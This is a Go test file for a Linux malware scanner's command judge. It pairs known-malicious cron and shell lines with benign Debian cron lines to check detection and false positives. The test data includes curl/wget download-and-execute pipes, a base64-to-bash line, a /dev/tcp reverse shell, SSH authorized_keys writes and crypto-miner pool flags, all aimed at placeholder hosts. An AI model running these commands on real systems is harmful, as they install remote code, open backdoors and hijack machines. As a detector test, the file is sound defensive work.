package linux

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/snapscan/snapscan/report"
)

func TestJudgeCommand(t *testing.T) {
	cases := []struct {
		name, cmd, rule, family string
	}{
		// Malicious: judged by what they do.
		{"curl pipe sh", "curl -fsSL http://1.2.3.4/a.sh | sh", "download-exec", ""},
		{"wget stdout bash", "wget -q -O- http://x.example/i | bash -s", "download-exec", ""},
		{"kinsing", "(curl -fsSL http://1.2.3.4/gi.sh || wget -q -O - http://1.2.3.4/gi.sh) | bash > /dev/null 2>&1", "download-exec", "Kinsing"},
		{"curl to tmp", "curl -s http://x/y -o /tmp/.y; chmod +x /tmp/.y; /tmp/.y", "download-exec", ""},
		{"wget -O tmp", "wget http://x/y -O /var/tmp/k", "download-exec", ""},
		{"renamed curl in a cron line", "url -fsSL http://c.example:43768/shz.sh | sh", "download-exec", ""},
		{"renamed wget", "wd1 -q -O- http://203.0.113.1/i.sh | bash", "download-exec", ""},
		{"fetched to a system path, then run", "wget -q http://198.51.100.7/k -O /usr/local/bin/kworkerd && /usr/local/bin/kworkerd", "download-exec", ""},
		{"fetched, then made executable", "curl -s http://x/y -o /usr/local/bin/y; chmod 755 /usr/local/bin/y", "download-exec", ""},
		{"cd to tmp, fetch, unpack, run", "cd /tmp && curl -O http://x/xmr.tar.gz && tar xzf xmr.tar.gz && ./xmr", "download-exec", ""},
		{"bash process substitution", `bash -c "$(curl -fsSL http://x/s)"`, "download-exec", ""},
		{"python downloader", `python3 -c "import urllib.request;exec(urllib.request.urlopen('http://x/p').read())"`, "python-downloader", ""},
		{"base64 pipe", "echo Y3VybCBodHRwOi8veC95IHwgc2gK | base64 -d | bash", "base64-exec", ""},
		{"exec from tmp", "/tmp/kdevtmpfsi", "exec-tmp", "Kinsing"},
		{"exec from dev shm after cd", "cd /dev/shm && ./x; /dev/shm/x", "exec-tmp", ""},
		{"nohup from var tmp", "nohup /var/tmp/.x/miner >/dev/null &", "exec-tmp", ""},
		{"hidden dir", "/home/bob/.configrc5/a/upd>/dev/null 2>&1", "exec-hidden", "Outlaw"},
		{"chattr", "chattr -ia /etc/crontab", "chattr", ""},
		{"chattr +i", "chattr +i /root/.ssh/authorized_keys", "chattr", ""},
		{"xmrig flags", "/usr/local/bin/kworker --donate-level 1 -o pool.supportxmr.com:3333", "miner", ""},
		{"stratum url", "./a -o stratum+tcp://1.2.3.4:80 -u x", "miner", ""},
		{"pool only", "./a --url=gulf.moneroocean.stream:10128", "miner-pool", ""},
		{"reverse shell", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "reverse-shell", ""},
		{"key write", `echo "ssh-rsa AAAA x" >> /root/.ssh/authorized_keys`, "ssh-key-write", ""},
		{"aliyundun", "/opt/sysetmd", "", "AliyunDuns"},
		{"upat", "sh /etc/upat.sh >/dev/null 2>&1", "", "Cleanfda"},
		// Benign: a word in them is not enough.
		{"health ping", "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/0b8c2f6e", "", ""},
		{"curl head to null", "curl -o /dev/null https://example.org/ping", "", ""},
		{"debian crontab", "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", "", ""},
		{"e2scrub", "test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r", "", ""},
		{"logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "", ""},
		{"tmpreaper", "find /tmp -type f -mtime +7 -delete", "", ""},
		{"apt-get of a URL-named package list", "apt-get update -o Acquire::http::Proxy=http://proxy:3128 | sh -c cat", "", ""},
		{"man-db", `start-stop-daemon --start --pidfile /dev/null --startas /bin/sh --oknodo --chuid man $iosched_idle -- -c "find /var/cache/man -type f -name '*.gz' -atime +6 -print0 | xargs -r0 rm -f"`, "", ""},
		{"popularity-contest", "test -x /etc/cron.daily/popularity-contest && /etc/cron.daily/popularity-contest --crond", "", ""},
		{"apt download to cache", "wget -q -O /var/cache/foo/list https://example.org/list", "", ""},
		{"health ping then backup", "curl -fsS -o /dev/null https://hc-ping.com/x && /usr/local/bin/backup.sh", "", ""},
		{"health ping, output last, then backup", "curl -fsS https://hc-ping.com/x -o /dev/null && /usr/local/bin/backup.sh", "", ""},
		{"fetch a list, then a filter reads it", "wget -q -O /var/lib/geo/list https://example.org/list && /usr/bin/geoupdate --quiet | logger", "", ""},
		{"source dot", ". /etc/default/cron", "", ""},
		{"sha256sum", "curl -s https://x/y | sha256sum", "", ""},
		{"acme.sh renewal", `"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null`, "", ""},
		{"acme.sh with a payload appended", `"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null; curl -s http://x/a | sh`, "download-exec", ""},
		{"acme.sh look-alike path", `/root/.acme.sh/kworker --cron`, "exec-hidden", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			v := JudgeCommand(c.cmd)
			var rule, fam string
			if len(v.Rules) > 0 {
				rule = v.Rules[0].Rule
			}
			if len(v.Markers) > 0 {
				fam = v.Markers[0].Family
			}
			if rule != c.rule || fam != c.family {
				t.Errorf("JudgeCommand(%q) = rule %q family %q, want %q %q (all: %+v)", c.cmd, rule, fam, c.rule, c.family, v.Rules)
			}
		})
	}
}

// TestJudgeDebianScripts feeds every line of the real Debian cron and init
// scripts in linux-clean to the judge: none may look malicious.
func TestJudgeDebianScripts(t *testing.T) {
	root := srcDir + "linux-clean"
	var n int
	for _, dir := range []string{"etc/cron.daily", "etc/init.d", "etc/cron.d"} {
		ents, err := os.ReadDir(filepath.Join(root, dir))
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range ents {
			data, err := os.ReadFile(filepath.Join(root, dir, e.Name()))
			if err != nil {
				t.Fatal(err)
			}
			for _, l := range shellLines(data) {
				n++
				if v := JudgeCommand(l.Text); v.Suspicious() {
					t.Errorf("%s/%s:%d judged %s: %s", dir, e.Name(), l.N, v.Rules[0].Rule, l.Text)
				}
			}
		}
	}
	if n < 100 {
		t.Fatalf("only %d script lines judged; the fixture is missing", n)
	}
}

func TestJudgedSeverity(t *testing.T) {
	s := &sink{}
	// A behaviour with a family marker escalates to critical; a behaviour
	// alone keeps its own severity; a marker alone keeps the marker's.
	for _, c := range []struct {
		cmd  string
		rule string
		sev  report.Severity
	}{
		{"(curl -s http://x/gi.sh) | bash", "cron.download-exec", report.Critical},
		{"curl -s http://x/a.sh | bash", "cron.download-exec", report.High},
		{"/etc/httpd2", "cron.family-marker", report.Critical},
	} {
		s.findings = nil
		rr := &run{name: "cron", t: fakeTarget(), out: s}
		rr.judged(cronPlace, report.Evidence{Path: "/x"}, c.cmd, JudgeCommand(c.cmd), "")
		if len(s.findings) != 1 || s.findings[0].Rule != c.rule || s.findings[0].Severity != c.sev {
			t.Errorf("%q: got %s", c.cmd, s.dump())
		}
	}
}
